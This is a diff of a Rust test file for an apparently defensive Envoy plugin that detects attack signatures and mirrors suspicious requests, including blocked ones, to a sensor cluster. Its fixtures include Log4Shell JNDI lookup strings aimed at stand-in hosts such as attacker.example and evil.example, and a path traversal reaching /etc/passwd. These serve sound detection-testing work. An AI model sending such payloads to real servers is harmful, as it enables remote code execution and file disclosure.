@@ -1,37 +1,13 @@
-//! The `make run` demo (`envoy-config/envoy.yaml`): its mirror policy compiles, behaves as the
-//! README's curl lines say, and names the target that the demo route matches on.
+//! The mirror section of the `make run` demo's policy (`envoy-config/envoy.yaml`, one
+//! `meshsight` plugin running the whole document in one pass): it behaves as the demo's curl
+//! lines and the mirror docs say, names the target that the demo route matches on, and copies a
+//! blocked attack to the sensor cluster.
 #![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]
 
+mod demo;
+
 use meshsight_policy::decision::{MirrorDecision, MirrorReason, MIRROR_DECISION_PROPERTY};
-use meshsight_test_harness::host::Host;
-use std::path::Path;
-
-fn demo_yaml() -> String {
-    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../envoy-config/envoy.yaml");
-    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
-}
-
-/// The block scalar under the mirror filter's `value: |`.
-fn demo_mirror_policy(yaml: &str) -> String {
-    let lines: Vec<&str> = yaml.lines().collect();
-    let start = lines
-        .iter()
-        .position(|l| l.trim() == "name: meshsight_mirror")
-        .expect("mirror filter in envoy.yaml");
-    let value = start
-        + lines[start..]
-            .iter()
-            .position(|l| l.trim() == "value: |")
-            .expect("`value: |` after the mirror filter");
-    let indent = |l: &str| l.len() - l.trim_start().len();
-    let base = indent(lines[value]);
-    lines[value + 1..]
-        .iter()
-        .take_while(|l| l.trim().is_empty() || indent(l) > base)
-        .map(|l| l.trim_start())
-        .collect::<Vec<_>>()
-        .join("\n")
-}
+use meshsight_test_harness::host::{Host, HttpCall};
 
 fn decision(host: &Host, id: u32) -> MirrorDecision {
     serde_json::from_slice(
@@ -42,32 +18,30 @@ fn decision(host: &Host, id: u32) -> MirrorDecision {
     .unwrap()
 }
 
+fn decision_header(host: &Host, id: u32) -> Option<String> {
+    host.request_header_map(id)
+        .into_iter()
+        .find(|(n, _)| n == "x-meshsight-mirror")
+        .map(|(_, v)| v)
+}
+
+fn header<'a>(call: &'a HttpCall, name: &str) -> Option<&'a str> {
+    call.headers
+        .iter()
+        .find(|(n, _)| n == name)
+        .map(|(_, v)| v.as_str())
+}
+
 #[test]
 fn demo_policy_behaves_as_the_readme_says() {
-    let yaml = demo_yaml();
-    let policy = demo_mirror_policy(&yaml);
-    let mut host = Host::builder(meshsight::register)
-        .property(&["plugin_root_id"], "meshsight_mirror")
-        .plugin_config(&policy)
-        .start()
-        .unwrap_or_else(|e| panic!("the demo policy is refused: {e}\n{policy}"));
+    let yaml = demo::demo_yaml();
+    let mut host = demo::start_demo();
     let mut run = |path: &str, extra: &[(&str, &str)]| {
-        let id = host.new_http_stream();
-        let mut headers = vec![
-            (":method", "GET"),
-            (":path", path),
-            (":authority", "localhost"),
-            (":scheme", "http"),
-        ];
-        headers.extend_from_slice(extra);
-        host.request_headers(id, &headers, true);
-        let d = decision(&host, id);
-        let header = host
-            .request_header_map(id)
-            .into_iter()
-            .find(|(n, _)| n == "x-meshsight-mirror")
-            .map(|(_, v)| v);
-        (d, header)
+        let id = demo::get(&mut host, "GET", path, extra);
+        assert_eq!(host.local_response(id), None, "{path} is allowed");
+        let found = (decision(&host, id), decision_header(&host, id));
+        demo::finish(&mut host, id);
+        found
     };
     let (d, h) = run("/api/orders/42", &[]);
     assert_eq!(
@@ -85,6 +59,19 @@ fn demo_policy_behaves_as_the_readme_says() {
         &[("user-agent", "${jndi:ldap://attacker.example/a}")],
     );
     assert_eq!(d.signatures, vec!["log4shell"]);
+    let (d, h) = run(
+        "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+        &[],
+    );
+    assert_eq!(
+        (d.reason, d.signatures, h.as_deref()),
+        (
+            MirrorReason::Signature,
+            vec!["log4shell".to_string()],
+            Some("sensor")
+        ),
+        "the banner's signature line"
+    );
     let (d, _) = run("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", &[]);
     assert_eq!(d.signatures, vec!["log4shell"]);
     let (d, _) = run("/api/items?file=..%2F..%2Fetc%2Fpasswd", &[]);
@@ -98,4 +85,39 @@ fn demo_policy_behaves_as_the_readme_says() {
     );
     let (d, _) = run("/api/items", &[("x-request-id", "demo-1")]);
     assert_eq!(d.rule.as_deref(), Some("sample-rest"));
+}
+
+#[test]
+fn the_demos_blocked_attack_still_reaches_the_sensor() {
+    let mut host = demo::start_demo();
+    let path = "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
+    let id = demo::get(&mut host, "GET", path, &[("x-request-id", "demo-blocked")]);
+    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
+    let d = decision(&host, id);
+    assert!(d.mirrored, "copied although denied: {d:?}");
+    assert_eq!(
+        (d.reason, d.signatures),
+        (MirrorReason::Signature, vec!["log4shell".to_string()])
+    );
+    demo::finish(&mut host, id);
+    host.tick();
+    // A denied request reaches no route: the copy goes by HTTP call to the header target's
+    // cluster, the demo's `sensor` cluster.
+    let copies: Vec<HttpCall> = host
+        .http_calls()
+        .into_iter()
+        .filter(|c| c.upstream == "sensor")
+        .collect();
+    assert_eq!(copies.len(), 1, "{copies:?}");
+    assert_eq!(header(&copies[0], ":path"), Some(path));
+    assert_eq!(
+        header(&copies[0], "x-meshsight-mirror-reason"),
+        Some("signature")
+    );
+    assert_eq!(
+        header(&copies[0], "x-meshsight-mirror-signatures"),
+        Some("log4shell")
+    );
+    // The demo says so explicitly (it is also the default).
+    assert_eq!(demo::demo_document()["mirror"]["copy_denied"], true);
 }
